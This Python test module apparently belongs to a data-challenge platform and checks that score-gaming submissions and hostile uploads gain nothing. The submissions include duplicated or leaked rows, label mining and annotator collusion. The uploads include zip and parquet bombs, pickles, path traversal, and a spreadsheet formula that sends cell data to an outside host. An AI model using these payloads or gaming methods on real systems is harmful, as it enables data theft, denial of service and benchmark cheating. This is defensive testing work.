"""Every attack of `dataset_attacks` on a shipped challenge: what it wins on the private composite, and what stops it.

An attack that wins is marked as such, with its figures, and stays here until it no longer does: the suite then fails.
"""

import csv
import gzip
import io
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Final

import numpy as np
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import challenges
from challenges import run
from challenges.datasets import open_dataset
from challenges.datasets.documentation import TELLING
from challenges.datasets.items import Item
from tests.hostile import dataset_arena, dataset_attacks, text_attacks
from tests.hostile.dataset_arena import Started, Told
from tests.hostile.dataset_attacks import Attack

pytestmark = pytest.mark.hostile
ADDED: Final = "G9"
"""The gate by which flight-records refuses records that are not of its raw bundle."""
WINS: dict[str, str] = {
    "offset-copies": "+0.36 points (-13.68 to +7.73), by luck in A8 and A4: Q14 does not see copies that differ in four of ten columns, for what "
    "is left (route, aircraft, delay) two flights may have in common",
    "offset-easy-rows": "+3.65 points (-7.17 to +10.57): A8 rises from 32 to 51, for the surely right half of the labels weighs double, and Q14 "
    "does not see that they are copies",
    "easy-under-free-ids": "+2.92 points (-6.20 to +9.08), as the one before, with fewer records",
}
"""Attacks that would win where teams may add records of their own, by how much, and why. The challenge as shipped refuses them."""
SPOKEN = "17 of 20 items are answered: what only words answer is answered by words that can be spoken, once one true number stands beside them"


@pytest.fixture(scope="module")
def records(tmp_path_factory: pytest.TempPathFactory) -> Started:
    """The challenge as if teams might add records: its own gate against that would hide what all else is worth."""
    return Started.on("flight-records", tmp_path_factory.mktemp("records"), without={ADDED})


@pytest.fixture(scope="module")
def cleaning(tmp_path_factory: pytest.TempPathFactory) -> Started:
    """The challenge as it is shipped."""
    return Started.on("flight-records", tmp_path_factory.mktemp("cleaning"))


@pytest.fixture(scope="module")
def reviews(tmp_path_factory: pytest.TempPathFactory) -> Started:
    return Started.on("shop-reviews", tmp_path_factory.mktemp("reviews"))


def attacks(which: tuple[Attack, ...]) -> list[object]:
    """Each as a parameter; those that win are expected to fail, and to fail the suite once they do not."""
    return [
        pytest.param(
            attack,
            id=attack.key,
            marks=[pytest.mark.xfail(strict=True, reason=WINS[attack.key], raises=AssertionError)]
            if attack.key in WINS
            else [],
        )
        for attack in which
    ]


def gains_nothing(attack: Attack, there: Started) -> None:
    found = there.arena.handed_in(attack.make(there.honest, there.raw))
    start = there.start_of(attack)
    gain = there.arena.gain(found, start)
    if attack.gate is not None:
        assert attack.gate in found.gates_failed
        assert found.report.outcome == "refused"
        assert not found.scores
    figures = f"{attack.what}: {gain.value:+.2f} points ({gain.low:+.2f} to {gain.high:+.2f})"
    unseen = [measure for measure in attack.falls if not found.points(measure) < start.points(measure)]
    assert not unseen, f"{figures}, unseen by {unseen}"
    assert gain.value <= 0, figures


@pytest.mark.slow
@pytest.mark.parametrize("attack", attacks(dataset_attacks.RECORDS))
def test_an_attack_on_a_table_gains_nothing(attack: Attack, records: Started) -> None:
    gains_nothing(attack, records)


@pytest.mark.slow
@pytest.mark.parametrize("attack", [pytest.param(one, id=one.key) for one in dataset_attacks.RECORDS if one.adds])
def test_a_challenge_of_cleaning_refuses_records_that_are_not_its_own(attack: Attack, cleaning: Started) -> None:
    """Those also that would win something elsewhere: all that padding can add are copies which the raw bundle holds itself."""
    found = cleaning.arena.handed_in(attack.make(cleaning.honest, cleaning.raw))
    assert found.gates_failed == (ADDED,)
    assert not found.scores


@pytest.mark.slow
@pytest.mark.parametrize("attack", attacks(text_attacks.REVIEWS))
def test_an_attack_on_texts_gains_nothing(attack: Attack, reviews: Started) -> None:
    gains_nothing(attack, reviews)


# Seeds, order, weak entries beforehand


@pytest.mark.slow
def test_nothing_but_the_rows_decides(records: Started, tmp_path: Path) -> None:
    """Seed shopping and sandbagging: other orders of rows and columns, another name, and whatever was handed in before change no digit.

    This one is scored with the list of doubtful labels, the others of this module without it: it takes no part in any score.
    """
    records.arena.handed_in(records.raw)  # a weak entry first
    shuffled = records.honest.select("record", *sorted(set(records.honest.columns) - {"record"}, reverse=True))
    shuffled = shuffled[np.random.default_rng(1).permutation(shuffled.height)]
    ours, theirs = tmp_path / "ours.zip", tmp_path / "another name.zip"
    with zipfile.ZipFile(records.arena.baselines.write(dataset_attacks.HONEST, records.honest, tmp_path)) as archive:
        readme = archive.read("README.md")
    for path, table in ((ours, records.honest), (theirs, shuffled)):
        path.write_bytes(packed({"README.md": readme, "records.csv": table.write_csv().encode()}))
    scores = records.arena.judged(ours).report.scores
    assert scores
    assert records.arena.judged(theirs, suspects=True).report.scores == scores


# What leaked


@pytest.mark.slow
@pytest.mark.parametrize(
    ("count", "dated"),
    [
        pytest.param(200, False, id="some"),
        pytest.param(3000, False, id="many"),
        pytest.param(3000, True, id="many with days put in"),
    ],
)
def test_rows_of_the_hidden_test_take_the_score_away(count: int, dated: bool, records: Started) -> None:
    table = dataset_attacks.with_hidden_rows(records.honest, records.leaked(), count, dated=dated)
    found = records.arena.handed_in(table)
    assert "A9" in found.gates_failed
    assert set(found.scores.values()) == {0.0}
    assert [one.id for one in found.report.findings if one.level != "note"] == ["quality.gate_hidden"]
    assert records.arena.gain(found, records.judged).value < 0


@pytest.mark.slow
def test_a_few_rows_cannot_be_asked_about(records: Started) -> None:
    """Membership: whether a handful of rows is in the hidden test changes nothing that is told of contamination."""
    table = dataset_attacks.with_hidden_rows(records.honest, records.leaked(), 9, dated=False)
    found = records.arena.handed_in(table)
    told, before = (judged.measure("A9") for judged in (found, records.judged))
    assert told is not None
    assert before is not None
    assert (told.value, told.points, told.details) == (before.value, before.points, before.details)


# Many submissions


@pytest.mark.slow
def test_gold_cannot_be_mined(records: Started) -> None:
    """All 300 submissions that a season allows, one doubtful label changed in each and kept where the told share of errors falls."""
    limits = challenges.load(dataset_attacks.SHIPPED / "flight-records").definition.limits
    assert limits is not None
    told = Told(records)
    table = dataset_attacks.mined(records.honest, told, submissions=limits.total)
    assert told.submissions <= limits.total
    gain = records.arena.gain(records.arena.handed_in(table), records.judged)
    assert gain.value <= 0, f"{gain.value:+.2f} points ({gain.low:+.2f} to {gain.high:+.2f})"


def test_the_private_score_does_not_follow_who_mines_the_public_one_of_annotators(tmp_path: Path) -> None:
    """All 300 submissions that a season allows, one doubtful item changed in each and kept where the public accuracy rises."""
    folder = dataset_attacks.SHIPPED / "review-annotation"
    package = challenges.load(folder)
    challenges.prepare(package, tmp_path / "prepared")
    labels = pl.read_csv(folder / "public/annotators.csv").filter(pl.col("annotator").is_in(["a1", "a2", "a3"]))
    agreed = labels.group_by("item").agg((pl.col("label") == "pos").mean().alias("share"))
    doubtful = agreed.sort((pl.col("share") - 0.5).abs(), "item")["item"].to_list()
    limits = package.definition.limits
    assert limits is not None
    best = start = annotated(tmp_path, labels)
    for item in doubtful[: limits.total - 1]:
        other = pl.when(pl.col("label") == "pos").then(pl.lit("neg")).otherwise(pl.lit("pos"))
        tried = labels.with_columns(pl.when(pl.col("item") == item).then(other).otherwise("label").alias("label"))
        told = annotated(tmp_path, tried)
        if told["accuracy", "public"] > best["accuracy", "public"]:
            labels, best = tried, told
    assert best["accuracy", "public"] > start["accuracy", "public"]
    assert best["accuracy", "private"] <= start["accuracy", "private"]


# Annotators in league


def annotated(folder: Path, labels: pl.DataFrame) -> dict[tuple[str, str], float]:
    """Scores of labels on the challenge that is prepared in a folder."""
    (folder / "out").mkdir(exist_ok=True)
    labels.write_csv(folder / "labels.csv")
    report = run.score(folder / "prepared", folder / "labels.csv", folder / "out", filename="labels.csv")
    assert report.outcome == "scored"
    return {(one.key, str(one.split)): one.value for one in report.scores}


@pytest.fixture(scope="module")
def annotation(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("annotation")
    challenges.prepare(challenges.load(dataset_attacks.SHIPPED / "review-annotation"), folder / "prepared")
    return folder


@pytest.mark.parametrize("team", [3, 5])
@pytest.mark.parametrize("collusion", text_attacks.COLLUSIONS)
def test_annotators_in_league_win_agreement_but_not_the_leading_score(
    collusion: str, team: int, annotation: Path
) -> None:
    given = pl.read_csv(dataset_attacks.SHIPPED / "review-annotation/public/annotators.csv")
    labels = given.filter(pl.col("annotator").is_in([f"a{place}" for place in range(1, team + 1)]))
    honest = annotated(annotation, labels)
    league = annotated(annotation, text_attacks.COLLUSIONS[collusion](labels))
    assert league["accuracy", "private"] <= honest["accuracy", "private"]
    assert league["accuracy", "public"] <= honest["accuracy", "public"]
    if collusion != "a hidden majority":
        assert league["agreement", "private"] > honest["agreement", "private"], "else this were no attack"


# Documents


@pytest.mark.parametrize(
    ("says", "without"),
    [
        pytest.param(dataset_attacks.stuffed, (), id="words of the questions"),
        pytest.param(dataset_attacks.stuffed, TELLING, id="words of the questions, nothing of the data"),
        pytest.param(dataset_attacks.nonsense, (), id="nonsense"),
        pytest.param(dataset_attacks.nonsense, TELLING, id="nonsense, nothing of the data"),
        pytest.param(dataset_attacks.generic, (), id="true of any data"),
        pytest.param(dataset_attacks.generic, TELLING, id="true of any data, nothing of the data"),
        pytest.param(dataset_attacks.spoken, (), id="invented words"),
        pytest.param(dataset_attacks.spoken, TELLING, id="invented words, nothing of the data"),
    ],
)  # fmt: skip
def test_a_readme_that_says_nothing_answers_nothing(
    says: Callable[[Item], str], without: tuple[str, ...], tmp_path: Path
) -> None:
    table = (dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv").read_bytes()
    file = tmp_path / "stuffed.zip"
    file.write_bytes(dataset_attacks.documented(table, says, without=without))
    assert answered(file) == []


@pytest.mark.xfail(strict=True, reason=SPOKEN, raises=AssertionError)
def test_one_true_number_does_not_make_invented_words_an_answer(tmp_path: Path) -> None:
    """What cannot be told by machine, and is for the people who read the documentation of the best."""
    raw = dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv"
    rows = f"{pl.scan_csv(raw).select(pl.len()).collect().item()} records"
    file = tmp_path / "spoken.zip"
    file.write_bytes(
        dataset_attacks.documented(
            raw.read_bytes(), lambda item: rows if item.key == "scale" else dataset_attacks.spoken(item)
        )
    )
    assert answered(file) == ["scale"]


def answered(file: Path) -> list[str]:
    """The items of the documentation that are answered."""
    return [answer.item.key for answer in open_dataset(file).documentation.answers if answer.state == "answered"]


@pytest.mark.parametrize("other", ["shop-reviews", "fashion-labels", "low-flight-weather"])
def test_the_readme_of_another_dataset_answers_nothing(other: str, tmp_path: Path) -> None:
    """Whole, grammatical and honest, but of other data: nothing that can be looked up is so."""
    readme = dataset_attacks.readme_of(other, tmp_path)
    table = (dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv").read_bytes()
    file = tmp_path / "copied.zip"
    file.write_bytes(dataset_attacks.with_readme(table, readme))
    assert answered(file) == []


@pytest.mark.slow
def test_figures_that_the_table_contradicts_lose_points(records: Started, tmp_path: Path) -> None:
    """The README of the honest team, whose table is said to hold nine million records."""
    honest = records.arena.baselines.write(dataset_attacks.HONEST, records.honest, tmp_path)
    with zipfile.ZipFile(honest) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    true = f"{records.honest.height} records".encode()
    assert true in files["README.md"]
    boasting = tmp_path / "boasting.zip"
    boasting.write_bytes(packed({**files, "README.md": files["README.md"].replace(true, b"9000000 records")}))
    found = records.arena.judged(boasting)
    assert found.points("D1") < records.judged.points("D1")
    assert records.arena.gain(found, records.judged).value < 0


# Files


def packed(files: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


def parquet_bomb() -> bytes:
    """One long text that three million rows refer to."""
    cells = pa.DictionaryArray.from_arrays(pa.array(np.zeros(3_000_000, np.int32)), pa.array(["r" * 1000]))
    held = io.BytesIO()
    pq.write_table(pa.table({"record": cells}), held)
    return held.getvalue()


FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a zip that unpacks to a hundred megabytes": ("a.zip", lambda: packed({"records.csv": b"0,0\n" * 2**25})),
    "a parquet that unpacks without measure": ("a.parquet", parquet_bomb),
    "a pickle": ("records.csv", lambda: pickle.dumps({"record": ["r00000000"]})),
    "a pickle in a zip": ("a.zip", lambda: packed({"records.csv": b"record\nr0\n", "labels.csv": pickle.dumps([1])})),
    "a gzip of zeros": ("records.csv.gz", lambda: gzip.compress(bytes(2**28), mtime=0)),
    "a table outside of its folder": ("a.zip", lambda: packed({"../records.csv": b"record\nr0\n"})),
}
"""More of the kind, and what each costs in memory: test_uploads_files.py, and tests/challenges/datasets."""


@pytest.mark.slow
@pytest.mark.parametrize("what", FILES)
def test_a_hostile_file_is_refused_as_a_dataset_too(what: str, records: Started, tmp_path: Path) -> None:
    name, content = FILES[what]
    file = tmp_path / name
    file.write_bytes(content())
    assert file.stat().st_size < 10 * 2**20, "it would be refused for its size"
    found = records.arena.judged(file)
    assert found.report.outcome == "refused"
    assert found.report.findings
    assert not found.scores


@pytest.mark.slow
def test_a_formula_in_a_cell_is_only_text_to_who_opens_the_findings(records: Started, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1)'
    file = tmp_path / "records.csv"
    records.honest.with_columns(pl.lit(formula).alias("tail_number")).write_csv(file)
    with dataset_arena.without_suspects():
        run.check(records.arena.prepared, file, tmp_path, filename=file.name)
    with gzip.open(tmp_path / run.LISTING, "rt", encoding="utf-8", newline="") as listing:
        cells = {cell for row in csv.reader(listing) for cell in row}
    assert f"'{formula}" in cells
    assert not any(cell.startswith("=") for cell in cells)
